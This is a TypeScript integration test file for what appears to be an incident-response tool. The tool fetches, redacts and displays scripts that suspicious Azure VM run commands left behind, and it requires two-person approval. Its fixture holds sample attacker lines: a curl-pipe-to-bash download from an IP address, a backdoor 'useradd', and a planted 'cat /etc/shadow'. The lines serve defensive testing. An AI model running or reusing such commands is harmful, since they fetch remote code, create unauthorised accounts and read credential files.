import { createHash } from 'node:crypto';
import type { AlertAction, CheckedPress } from '../../src/actions/action';
import { removeLeftRuns } from '../../src/actions/measures/own-runs';
import { failInProgress } from '../../src/actions/measures/record-failure';
import { actionOf } from '../../src/actions/registry';
import { actionDeps } from '../../src/app/action-deps';
import { type Azure, createAzure } from '../../src/azure/azure';
import { runCommand } from '../../src/demo/scenarios';
import { fetcherId, fetcherToken } from '../../src/demo/tenant/tenant';
import { addMachine, subscriptions } from '../../src/demo/world';
import type { Alert } from '../../src/domain/alerts/alert';
import { newAlert } from '../../src/domain/alerts/alert';
import { linuxFolder } from '../../src/domain/fetch-script/fetch-commands';
import type { Measure } from '../../src/domain/measures/measure';
import type { Presser } from '../../src/domain/people/person';
import { executionFrom } from '../../src/domain/techniques/execution';
import { loadConfig } from '../../src/load-config';
import { createQueues, type Queues } from '../../src/pipeline/queues';
import { createPeople } from '../../src/presses/identify';
import { perform } from '../../src/presses/perform';
import { createPress } from '../../src/presses/press';
import { createKeyring } from '../../src/runtime/keyring';
import { createLog } from '../../src/runtime/log';
import { createMetrics } from '../../src/runtime/metrics';
import { createStore, type Store } from '../../src/store/store';
import { type Bench, setUp } from '../support/bot';
import { event } from '../support/event';
import { signedPress } from '../support/signed-press';

const script = [
  '#!/bin/bash',
  'curl -fsSL https://203.0.113.99/i.sh | bash',
  'export DB_PASSWORD=Sup3r-S3cret!Value',
  'useradd -m support2',
].join('\n');

const minute = 60_000;
const keyring = createKeyring({ current: 'a secret of this test, long enough', previous: null });
const sam: Presser = { surface: 'slack', id: 'U0SAM0000', name: 'Sam', team: 'T1' };
const max: Presser = { surface: 'slack', id: 'U0MAX0000', name: 'Max', team: 'T1' };
const log = createLog('silent');

let bench: Bench;
let store: Store;
let queues: Queues;
let count = 0;
beforeAll(async () => {
  bench = await setUp({ mode: 'none' });
  store = createStore(bench.redis.address, [], keyring.auditSigner());
  queues = createQueues(bench.redis.address, log);
});
afterAll(async () => {
  await queues.close();
  await store.close();
  await bench.stop();
});
beforeEach(() => {
  bench.tenant.faults.clear();
  bench.tenant.state.mayDo = () => true;
});

const config = () => {
  const base = loadConfig(bench.env);
  return { ...base, fetchScript: { identity: null }, policy: { ...base.policy, fetchScript: true } };
};

const realAzure = (own = config(), operationMs = 2000) =>
  createAzure(own, {
    tlsOptions: { ca: bench.tenant.ca },
    graphEndpoint: bench.tenant.endpoint,
    fetchCredential: {
      getToken: async () => ({ token: fetcherToken, expiresOnTimestamp: Date.now() + 3_600_000 }),
    },
    operationMs,
  });

const depsWith = (azure: Azure, own = config()) => ({
  ...actionDeps({
    config: own,
    store,
    azure,
    queues,
    surfaces: [],
    people: createPeople({
      config: own,
      azure,
      surfaces: [],
      claimedGroups: async () => null,
      log,
      now: Date.now,
    }),
    keyring,
    press: createPress({
      queues,
      now: Date.now,
      keyring,
      getAlert: store.alerts.get,
      secretMatches: async () => true,
    }),
    metrics: createMetrics(),
    log,
    now: Date.now,
  }),
  show: async () => {},
});

interface Scene {
  alert: Alert;
  machineId: string;
}

/** A machine of its own, with an alert about one command on it. */
async function scene(os: 'Linux' | 'Windows' = 'Linux', startedAt = Date.now() - 5 * minute): Promise<Scene> {
  const name = `vm-${os.toLowerCase()}-${++count}`;
  const machineId = addMachine(bench.tenant, name, {
    subscription: subscriptions.payments,
    resourceGroup: 'rg-payments',
  });
  const machine = bench.tenant.resources.get(machineId);
  (machine.properties.storageProfile as { osDisk: { osType: string } }).osDisk.osType = os;
  const execution = executionFrom(
    event({
      resourceId: machineId,
      operation: runCommand,
      status: 'succeeded',
      time: new Date(startedAt).toISOString(),
      correlationId: `c-${count}`,
    }),
  );
  if (!execution) throw new Error('no execution');
  const made = newAlert(`RW-T${String(count).padStart(12, '0')}`, [execution], new Date().toISOString());
  const alert = await store.alerts.update(
    made.id,
    () => ({ alert: { ...made, ready: true, announced: true } }),
    null,
  );
  return { alert: alert as Alert, machineId };
}

const leave = (machineId: string, more: object = {}) => {
  const guest = {
    scripts: [{ run: 3, at: Date.now() - 5 * minute, text: script, stdout: 'added\n', stderr: '' }],
    ...more,
  };
  bench.tenant.state.guests.set(machineId.toLowerCase(), guest);
};

const isWindows = {
  scripts: [
    { run: 0, version: '1.1.22', at: Date.now() - 5 * minute, text: script, stdout: 'added', stderr: '' },
  ],
};

const pressOn = ({ alert }: Scene, more: Partial<CheckedPress> = {}): CheckedPress => ({
  pressId: `press-${++count}`,
  alertId: alert.id,
  action: 'fetch_script',
  by: sam,
  approvedBy: max,
  at: new Date().toISOString(),
  input: {},
  lastTry: true,
  ...more,
});

async function run(at: Scene, press: CheckedPress, azure: Azure = realAzure()): Promise<string | null> {
  const alert = (await store.alerts.get(at.alert.id)) as Alert;
  const view = await store.measures.viewOf(alert);
  return (actionOf('fetch_script') as AlertAction).run(view, press, depsWith(azure));
}

const alertOf = async ({ alert }: Scene) => (await store.alerts.get(alert.id)) as Alert;
async function measureOf(at: Scene): Promise<Measure> {
  const { measures } = await store.measures.viewOf(await alertOf(at));
  return measures.find(({ kind }) => kind === 'script-fetch') as Measure;
}
const runCommandsOn = (machineId: string) => bench.tenant.resources.under(`${machineId}/runCommands`);
const requestsOn = (machineId: string, method = /./) =>
  bench.tenant.requests.filter(
    (one) =>
      method.test(one.method) && one.path.toLowerCase().startsWith(`${machineId.toLowerCase()}/runcommands/`),
  );

describe.each([
  ['Linux', {}],
  ['Windows', isWindows],
] as const)('on %s', (os, guest) => {
  test('script and output are read, redacted and shown, and nothing is left on the machine', async () => {
    const at = await scene(os);
    leave(at.machineId, guest);
    expect(await run(at, pressOn(at))).toBeNull();
    const measure = await measureOf(at);
    expect(measure).toMatchObject({ state: 'done', says: expect.stringContaining('assigned by time') });
    expect(measure.says).toContain('An attacker on the machine could have changed these files.');
    const { facts, executions } = await alertOf(at);
    const facts1 = facts.runs?.[executions[0]?.key ?? ''];
    expect(facts1).toMatchObject({ output: 'added', fetched: true });
    const found = facts.scripts?.[facts1?.script ?? ''];
    expect(found?.text).toContain('useradd -m support2');
    expect(found).toMatchObject({
      sha256: null,
      fetched: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/), truncated: false },
    });
    expect(found?.traits.map(({ line }) => line)).toEqual(expect.arrayContaining([2, 4]));
    expect(JSON.stringify([facts, measure])).not.toContain('Sup3r-S3cret');
    expect(runCommandsOn(at.machineId)).toEqual([]);
    expect(await store.ownRuns.listLeft(Date.now())).toEqual([]);
  });
});

test('only the configured identity touches the machine', async () => {
  const at = await scene();
  leave(at.machineId);
  const before = bench.tenant.requests.length;
  await run(at, pressOn(at));
  const callers = new Set(bench.tenant.requests.slice(before).map(({ callerId }) => callerId));
  expect([...callers]).toEqual([fetcherId]);
});

test('without an approval nothing is written', async () => {
  const at = await scene();
  leave(at.machineId);
  await run(at, pressOn(at, { approvedBy: undefined }));
  expect(await measureOf(at)).toMatchObject({
    state: 'failed',
    reason: expect.stringContaining('a second person'),
  });
  expect(requestsOn(at.machineId)).toEqual([]);
});

test('a long script comes in chunks; one beyond the limit is shown as its beginning, without a digest', async () => {
  const at = await scene();
  const digest = (i: number) => createHash('sha256').update(String(i)).digest('base64');
  const noise = Array.from({ length: 2000 }, (_, i) => `echo ${digest(i)}`).join('\n');
  leave(at.machineId, { scripts: [{ run: 3, at: Date.now() - 5 * minute, text: `id\n${noise}` }] });
  await run(at, pressOn(at));
  const { facts } = await alertOf(at);
  const [found] = Object.values(facts.scripts ?? {});
  expect(found?.text?.startsWith(`id\necho ${digest(0)}\n`)).toBe(true);
  expect(found?.fetched).toMatchObject({ truncated: true, sha256: null });
  expect(requestsOn(at.machineId, /PUT/).length).toBe(1 + 12 + 1);
  expect(runCommandsOn(at.machineId)).toEqual([]);
});

test('if it can’t be told which script it is, all are shown with their times, and none counts for the score', async () => {
  const at = await scene();
  const now = Date.now();
  leave(at.machineId, {
    scripts: [5, 4, 3].map((number) => ({
      run: number,
      at: now - number * minute,
      text: `${script}\n# ${number}`,
    })),
  });
  await run(at, pressOn(at));
  expect((await measureOf(at)).says).toContain('It can’t be told which script');
  const { facts, executions } = await alertOf(at);
  const fetched = facts.fetched?.[at.machineId.toLowerCase()];
  expect(fetched).toMatchObject({ by: null, more: 0 });
  expect(fetched?.scripts.map(({ run: number, execution }) => [number, execution])).toEqual([
    [3, null],
    [4, null],
    [5, null],
  ]);
  expect(Object.keys(facts.scripts ?? {})).toHaveLength(3);
  expect(facts.runs?.[executions[0]?.key ?? '']).toBeUndefined();
});

test('a machine without such files says so', async () => {
  const at = await scene();
  leave(at.machineId, { scripts: [] });
  await run(at, pressOn(at));
  expect(await measureOf(at)).toMatchObject({
    state: 'done',
    says: expect.stringContaining('No script of a run command'),
  });
});

test('an isolated machine that returns nothing says so, and nothing is left', async () => {
  const at = await scene();
  leave(at.machineId, { silent: true });
  const alert = await alertOf(at);
  await (actionOf('isolate') as AlertAction).run(
    await store.measures.viewOf(alert),
    { ...pressOn(at), action: 'isolate' },
    depsWith(realAzure()),
  );
  await run(at, pressOn(at), realAzure(config(), 300));
  expect((await measureOf(at)).says).toContain('It is isolated');
  expect(runCommandsOn(at.machineId)).toEqual([]);
});

test.each([
  [
    'stopped',
    (machine: { properties: Record<string, unknown> }) => {
      machine.properties.instanceView = { statuses: [{ code: 'PowerState/deallocated' }] };
    },
    'is not running (deallocated)',
  ],
  [
    'with a broken agent',
    (machine: { properties: Record<string, unknown> }) => {
      machine.properties.instanceView = {
        vmAgent: { statuses: [{ displayStatus: 'Not Ready' }] },
        statuses: [{ code: 'PowerState/running' }],
      };
    },
    'is not ready (Not Ready)',
  ],
])('a machine that is %s is refused before anything is written', async (_, change, why) => {
  const at = await scene();
  leave(at.machineId);
  change(bench.tenant.resources.get(at.machineId));
  await expect(run(at, pressOn(at))).rejects.toThrow(why);
  expect(requestsOn(at.machineId)).toEqual([]);
});

test.each(['ReadOnly', 'CanNotDelete'])(
  'a machine with a %s lock is refused before anything is written',
  async (level) => {
    const at = await scene();
    leave(at.machineId);
    bench.tenant.resources.put(`${at.machineId}/providers/Microsoft.Authorization/locks/held`, {
      properties: { level },
    });
    await expect(run(at, pressOn(at))).rejects.toThrow(`${level} lock held`);
    expect(requestsOn(at.machineId)).toEqual([]);
  },
);

test('a scale set instance works the same way', async () => {
  const at = await scene();
  const { name: _, ...machine } = bench.tenant.resources.get(at.machineId);
  const instance = at.machineId.replace(
    /virtualMachines\/(.*)$/,
    'virtualMachineScaleSets/$1/virtualMachines/0',
  );
  bench.tenant.resources.put(instance, { ...machine, id: instance });
  const [execution] = at.alert.executions;
  await store.alerts.update(at.alert.id, (current) =>
    current && execution
      ? {
          alert: {
            ...current,
            executions: [
              {
                ...execution,
                operation: 'Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action',
                technique: 'vmss-run-command',
                target: {
                  ...execution.target,
                  id: instance,
                  type: 'Microsoft.Compute/virtualMachineScaleSets/virtualMachines',
                },
              },
            ],
          },
        }
      : null,
  );
  leave(instance);
  await run(at, pressOn(at));
  expect(await measureOf(at)).toMatchObject({
    state: 'done',
    says: expect.stringContaining('assigned by time'),
  });
  expect(runCommandsOn(instance)).toEqual([]);
});

test('an Arc server is refused with the reason', async () => {
  const at = await scene();
  const arc = at.machineId.replace('Microsoft.Compute/virtualMachines', 'Microsoft.HybridCompute/machines');
  const [execution] = at.alert.executions;
  await store.alerts.update(at.alert.id, (current) =>
    current && execution
      ? { alert: { ...current, executions: [{ ...execution, target: { ...execution.target, id: arc } }] } }
      : null,
  );
  await expect(run(at, pressOn(at))).rejects.toThrow('On Arc servers');
});

test('with fetching turned off, Azure is never asked', async () => {
  const at = await scene();
  const off = { ...config(), fetchScript: null };
  const before = bench.tenant.requests.length;
  await run(at, pressOn(at), realAzure(off as never));
  expect(await measureOf(at)).toMatchObject({ state: 'failed', reason: expect.stringContaining('off') });
  expect(bench.tenant.requests.length).toBe(before);
});

test.each<[string, (output: string) => string]>([
  ['nothing at all', () => ''],
  ['a cut list', (output) => output.slice(0, 20)],
  ['a list that is not ours', () => 'runwatch list 1\n1 1790000000 5; reboot\nend'],
  ['a huge answer', (output) => `${output}${'x'.repeat(100_000)}`],
  ['not UTF-8', () => Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28]).toString('latin1')],
])('a machine that answers with %s shows nothing of it, and nothing is left', async (_, answer) => {
  const at = await scene();
  leave(at.machineId, { answer });
  await run(at, pressOn(at));
  const { facts } = await alertOf(at);
  expect([facts.scripts, facts.runs, facts.fetched]).toEqual([undefined, undefined, undefined]);
  expect((await measureOf(at)).says || (await measureOf(at)).reason).toBeTruthy();
  await removeLeftRuns(depsWith(realAzure()));
  expect(runCommandsOn(at.machineId)).toEqual([]);
});

test.each<[string, (output: string) => string]>([
  ['wrong chunk numbers', (output) => output.replace(/^(runwatch script \d+) 0 /, '$1 3800 ')],
  ['another script', (output) => output.replace(/^(runwatch script) 3 /, '$1 4 ')],
  ['a cut chunk', (output) => (output.startsWith('runwatch script') ? output.slice(0, -10) : output)],
  ['a lie about the digest', (output) => output.replace(/ [0-9a-f]{64} /, ` ${'0'.repeat(64)} `)],
  ['a lie about the size', (output) => output.replace(/^(runwatch script 3 0) \d+ \d+ /, '$1 999999999 0 ')],
])('%s: the script is not used, and the message says why', async (_, answer) => {
  const at = await scene();
  leave(at.machineId, { answer });
  await run(at, pressOn(at));
  const { facts } = await alertOf(at);
  expect(facts.scripts ?? {}).toEqual({});
  expect(facts.fetched?.[at.machineId.toLowerCase()]?.scripts).toEqual([
    expect.objectContaining({ script: null, output: null, why: expect.any(String) }),
  ]);
  expect((await measureOf(at)).says).toContain('could not be read');
  expect(runCommandsOn(at.machineId)).toEqual([]);
});

test('a slow machine is waited for', async () => {
  const at = await scene();
  leave(at.machineId, { reads: 4 });
  await run(at, pressOn(at));
  expect((await measureOf(at)).says).toContain('assigned by time');
});

test('a refusal by Azure names the permission and the role of its own', async () => {
  const at = await scene();
  leave(at.machineId);
  bench.tenant.state.mayDo = (action) => !/runCommands\/write$/.test(action);
  await run(at, pressOn(at));
  expect((await measureOf(at)).reason).toMatch(
    /grant Microsoft\.Compute\/virtualMachines\/runCommands\/write to the identity that fetches scripts .*--role script-fetcher/,
  );
});

test('if someone replaces our run command, its answer is not used and it stays as evidence', async () => {
  const at = await scene();
  leave(at.machineId, { silent: true });
  const press = pressOn(at, { lastTry: false });
  const running = run(at, press);
  for (;;) {
    const [ours] = runCommandsOn(at.machineId);
    if (ours) {
      ours.properties.source = { script: 'cat /etc/shadow' };
      ours.properties.instanceView = { executionState: 'Succeeded', output: 'root:x' };
      break;
    }
    await new Promise(setImmediate);
  }
  await running;
  expect((await measureOf(at)).reason).toContain('someone changed Runwatch’s run command');
  await removeLeftRuns(depsWith(realAzure()));
  expect(runCommandsOn(at.machineId)).toHaveLength(1);
});

test('a note forged in Redis removes no run command of others', async () => {
  const at = await scene();
  const name = `runwatch-${'a'.repeat(32)}-0`;
  const id = `${at.machineId}/runCommands/${name}`;
  bench.tenant.resources.put(id, { properties: { source: { script: 'id' } } });
  const forged = { name, id: id.toLowerCase(), machineId: at.machineId, objectId: fetcherId };
  const sha256 = createHash('sha256').update('id').digest('hex');
  const noted = { ...forged, sha256, alertId: at.alert.id, press: 'p', signature: '', at: Date.now() };
  await store.ownRuns.note(noted);
  await removeLeftRuns(depsWith(realAzure()));
  expect(runCommandsOn(at.machineId)).toHaveLength(1);
});

class Crash extends Error {}

/** Calls of an object, with a crash before or after the nth one. */
function crashing<T extends object>(
  object: T,
  at: number,
  when: 'before' | 'after',
  seen: { calls: number },
): T {
  return new Proxy(object, {
    get: (target, name) => {
      const value = Reflect.get(target, name);
      if (typeof value !== 'function') return value;
      return (...args: unknown[]) => {
        const call = ++seen.calls;
        if (call === at && when === 'before') throw new Crash();
        const answer = Reflect.apply(value as (...args: unknown[]) => unknown, target, args);
        if (!(answer instanceof Promise) || call !== at) return answer;
        return answer.then(() => {
          throw new Crash();
        });
      };
    },
  });
}

test.each(['before', 'after'] as const)(
  'a crash %s any call to Azure or to the notes: a retry completes it, and nothing is left',
  async (when) => {
    for (let nth = 1; ; nth++) {
      const at = await scene();
      leave(at.machineId);
      const press = pressOn(at, { lastTry: false });
      const seen = { calls: 0 };
      const azure = crashing(realAzure(), nth, when, seen);
      const real = store.ownRuns;
      store.ownRuns = crashing(real, nth - seen.calls, when, seen);
      await run(at, press, azure).catch((error: unknown) => {
        if (!(error instanceof Crash)) throw error;
      });
      store.ownRuns = real;
      await run(at, press);
      expect([nth, (await measureOf(at)).says]).toEqual([nth, expect.stringContaining('assigned by time')]);
      expect([nth, runCommandsOn(at.machineId)]).toEqual([nth, []]);
      if (seen.calls < nth) break;
    }
  },
  120_000,
);

test('what a process left behind that never came back is found and removed, but not while a fetch runs', async () => {
  for (let nth = 1; ; nth++) {
    const at = await scene();
    leave(at.machineId);
    const press = pressOn(at, { lastTry: false });
    const seen = { calls: 0 };
    let crashed = false;
    await run(at, press, crashing(realAzure(), nth, 'after', seen)).catch(() => {
      crashed = true;
    });
    if (!crashed) break;
    const left = runCommandsOn(at.machineId).length;
    await removeLeftRuns(depsWith(realAzure()));
    expect(runCommandsOn(at.machineId)).toHaveLength(left);
    await failInProgress(press.pressId, 'the process stopped', depsWith(realAzure()));
    await removeLeftRuns(depsWith(realAzure()));
    expect([nth, runCommandsOn(at.machineId)]).toEqual([nth, []]);
  }
}, 120_000);

test('nothing from an alert gets into what runs on the machine', async () => {
  const at = await scene();
  leave(at.machineId);
  await run(at, pressOn(at));
  const bodies = requestsOn(at.machineId, /PUT/).map(
    ({ body }) => (body as { properties: { source: { script: string } } }).properties.source.script,
  );
  expect(bodies.length).toBeGreaterThan(2);
  for (const body of bodies) {
    expect(body).toContain(linuxFolder);
    expect(body).not.toContain('vm-linux');
    expect(body).not.toContain(at.alert.id);
  }
});

/** A press through all checks, by someone in Slack. */
async function pressIn(
  at: Scene,
  action: string,
  by: Presser,
  policy: object,
  nonce: string,
): Promise<string> {
  const own = { ...config(), policy: { ...config().policy, ...policy } };
  const answers: string[] = [];
  const pressing = {
    queues,
    now: Date.now,
    keyring,
    getAlert: store.alerts.get,
    secretMatches: async () => true,
  };
  const job = await signedPress({ alertId: at.alert.id, action, by }, pressing, `${at.alert.id} ${nonce}`);
  await perform(job, 6, {
    ...depsWith(realAzure(own), own),
    identify: async (press) => ({ presser: press.by }),
    replyPrivately: async (_, text) => void answers.push(text),
  });
  return answers.join();
}

test('turned off, a press is refused and nothing is asked of Azure', async () => {
  const at = await scene();
  const before = bench.tenant.requests.length;
  expect(await pressIn(at, 'fetch_script', sam, { fetchScript: false }, 'a')).toContain('is turned off');
  expect(bench.tenant.requests.length).toBe(before);
});

test('it takes two people, whatever fourEyes says, and again for a retry', async () => {
  const at = await scene();
  leave(at.machineId);
  bench.tenant.state.mayDo = (action) => !/runCommands\/write$/.test(action);
  const policy = { fourEyes: [] };
  expect(await pressIn(at, 'fetch_script', sam, policy, 'a')).toContain('Not done yet');
  expect(await pressIn(at, 'approve', sam, policy, 'b')).toContain('You already requested');
  expect(requestsOn(at.machineId)).toEqual([]);
  await pressIn(at, 'approve', max, policy, 'c');
  expect(await measureOf(at)).toMatchObject({ state: 'failed', approvedBy: { id: max.id } });
  bench.tenant.state.mayDo = () => true;
  const before = requestsOn(at.machineId).length;
  expect(await pressIn(at, 'retry', sam, policy, 'd')).toContain('Not done yet');
  expect(requestsOn(at.machineId).length).toBe(before);
  await pressIn(at, 'approve', max, policy, 'e');
  expect(await measureOf(at)).toMatchObject({ state: 'done' });
});
